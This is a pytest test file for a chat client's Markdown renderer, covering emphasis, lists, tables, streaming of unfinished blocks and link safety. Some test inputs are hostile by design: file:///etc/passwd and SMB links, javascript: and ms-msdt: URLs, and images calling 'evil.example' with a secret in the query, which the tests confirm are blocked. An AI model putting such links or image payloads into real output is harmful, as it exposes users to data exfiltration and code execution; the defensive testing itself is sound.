"""What is set on the page for a block of Markdown, and what never is."""

import pytest

from glmdesk.core.block_stream import BlockStream
from glmdesk.core.inline import MAX_OPENERS, plain
from glmdesk.core.prose import MOST_ROWS, Code, Line, Piece, Table, pieces, plain_lines, plain_paragraphs
from glmdesk.core.spans import Span, Style


def set_on_page(text: str, *, closed: bool = True) -> list[Piece]:
    stream = BlockStream()
    stream.feed(text)
    if closed:
        stream.close()
    return [piece for block in stream.blocks for piece in pieces(block, stream.references)]


def only_line(text: str) -> Line:
    (line,) = set_on_page(text)
    assert isinstance(line, Line)
    return line


def test_emphasis_nests_and_ends() -> None:
    assert only_line("a **b *c* d** ~~e~~ `f`").spans == (
        Span("a "),
        Span("b ", Style.BOLD),
        Span("c", Style.BOLD | Style.ITALIC),
        Span(" d", Style.BOLD),
        Span(" "),
        Span("e", Style.STRIKE),
        Span(" "),
        Span("f", Style.CODE),
    )


def test_a_line_break_stays_where_the_model_wrote_it() -> None:
    assert plain(only_line("roses\nviolets").spans) == "roses\nviolets"


def test_a_bare_address_becomes_a_link_without_the_full_stop_after_it() -> None:
    spans = only_line("see https://example.org/a_(b). Or (https://example.org/c)").spans
    assert [span.href for span in spans if span.href] == [
        "https://example.org/a_(b)",
        "https://example.org/c",
    ]


def test_an_address_in_code_is_code() -> None:
    assert only_line("`https://example.org`").spans == (Span("https://example.org", Style.CODE),)


@pytest.mark.parametrize(
    "text",
    [
        "[click](file:///etc/passwd)",
        "[click](smb://host/share)",
        "[click](//host/share)",
        "[click](javascript:alert(1))",
        "[click](ms-msdt:/id)",
        "[click](calculator:)",
        "![picture](file://host/share/a.png)",
        "![picture](data:image/png;base64,AAAA)",
        "<a href='https://example.org'>x</a>",
        "<img src='file:///x'>",
    ],
)
def test_what_may_not_be_opened_is_shown_as_the_text_that_it_is(text: str) -> None:
    line = only_line(text)
    assert plain(line.spans) == text
    assert all(span.href == "" or span.href.startswith("https://") for span in line.spans)
    assert not any(span.href.startswith(("file:", "smb:")) for span in line.spans)


def test_a_picture_is_named_by_its_host_and_never_loaded() -> None:
    (span,) = only_line("![chart](https://evil.example/q?s=secret)").spans
    assert span == Span("[blocked image: evil.example]", href="https://evil.example/q?s=secret")


def test_a_picture_by_reference_is_blocked_too() -> None:
    line, *_ = set_on_page("![chart][1]\n\n[1]: https://evil.example/p.png")
    assert isinstance(line, Line)
    assert plain(line.spans) == "[blocked image: evil.example]"


def test_nested_lists_keep_their_depth_their_numbers_and_their_boxes() -> None:
    lines = set_on_page("3. three\n4. four\n   - [ ] open\n   - [x] done\n     1. deep\n")
    assert [(line.indent, line.marker, plain(line.spans)) for line in lines if isinstance(line, Line)] == [
        (1, "3.", "three"),
        (1, "4.", "four"),
        (2, "☐", "open"),
        (2, "☑", "done"),
        (3, "1.", "deep"),
    ]


def test_a_list_may_start_at_nought() -> None:
    assert only_line("0. zero").marker == "0."


def test_an_item_without_text_keeps_its_marker() -> None:
    markers = [line.marker for line in set_on_page("-\n- b\n") if isinstance(line, Line)]
    assert markers == ["•", "•"]


def test_a_second_paragraph_of_an_item_has_no_marker() -> None:
    lines = [line for line in set_on_page("- a\n\n  b\n") if isinstance(line, Line)]
    assert [(line.marker, line.indent) for line in lines] == [("•", 1), ("", 1)]


def test_code_inside_a_list_is_code_with_its_language_and_depth() -> None:
    found = set_on_page("1. Run\n   ```sh\n   ls\n   ```\n2. Look\n")
    assert found[1] == Code("ls", "sh", closed=True, indent=1)


def test_an_unclosed_fence_in_an_open_list_is_open_until_something_follows() -> None:
    assert [p.closed for p in set_on_page("- a\n  ```\n  b\n", closed=False) if isinstance(p, Code)] == [
        False
    ]
    two = set_on_page("- a\n  ```\n  b\n  ```\n- c and\n", closed=False)
    assert [p.closed for p in two if isinstance(p, Code)] == [True]


def test_a_table_has_its_cells_and_alignments() -> None:
    (table,) = set_on_page("| a | b |\n|:--|--:|\n| 1 | **2** |\n| 3 |\n")
    assert isinstance(table, Table)
    assert [plain(cell) for cell in table.header] == ["a", "b"]
    assert [[plain(cell) for cell in row] for row in table.rows] == [["1", "2"], ["3", ""]]
    assert table.alignments == ("left", "right")


def test_an_open_table_shows_complete_rows_only() -> None:
    (table,) = set_on_page("| a |\n|---|\n| 1 |\n| 2", closed=False)
    assert isinstance(table, Table)
    assert len(table.rows) == 1


@pytest.mark.parametrize("text", ["| a | b", "| a | b |\n", "| a | b |\n|--"])
def test_the_beginning_of_a_table_is_not_shown_as_a_paragraph_first(text: str) -> None:
    assert set_on_page(text, closed=False) == []


@pytest.mark.parametrize("last", ["-", "3", "3.", "**", "```", "```py", "==", "#", "- "])
def test_a_last_line_that_may_become_anything_waits(last: str) -> None:
    assert set_on_page(f"words\n{last}", closed=False) == [Line((Span("words"),))]
    assert set_on_page(f"words\n{last}") != [Line((Span("words"),))]


def test_open_emphasis_is_shown_as_it_is() -> None:
    (line,) = set_on_page("a **bo", closed=False)
    assert isinstance(line, Line)
    assert plain(line.spans) == "a **bo"


def test_headings_quotes_and_rules_say_what_they_are() -> None:
    heading, quoted, rule = set_on_page("## Two\n\n> said\n\n---\n")
    assert isinstance(heading, Line)
    assert isinstance(quoted, Line)
    assert isinstance(rule, Line)
    assert (heading.heading, quoted.quote, rule.rule) == (2, 1, True)


@pytest.mark.parametrize("opener", ["[", "![", "**a ", "_a ", "<", "`a ", "~~a "])
def test_a_paragraph_made_to_be_slow_is_plain_text(opener: str) -> None:
    text = opener * 2_000
    assert len(text) > MAX_OPENERS
    (line,) = set_on_page(text + "x")
    assert isinstance(line, Line)
    assert line.spans == (Span((text + "x").strip()),)


def test_plain_lines_keep_every_character() -> None:
    assert [plain(line.spans) for line in plain_lines("a\n\n <b> *c*")] == ["a", "", " <b> *c*"]


def test_plain_paragraphs_turn_empty_lines_into_distance() -> None:
    lines = plain_paragraphs("a\nb\n\n\nc *d*\n")
    assert [(plain(line.spans), line.tight) for line in lines] == [
        ("a", False),
        ("b", True),
        ("c *d*", False),
    ]


def test_a_long_table_comes_in_parts_that_each_have_the_header() -> None:
    tables = set_on_page("| a |\n|---|\n" + "| 1 |\n" * (MOST_ROWS + 1))
    assert [(plain(t.header[0]), len(t.rows)) for t in tables if isinstance(t, Table)] == [
        ("a", MOST_ROWS),
        ("a", 1),
    ]
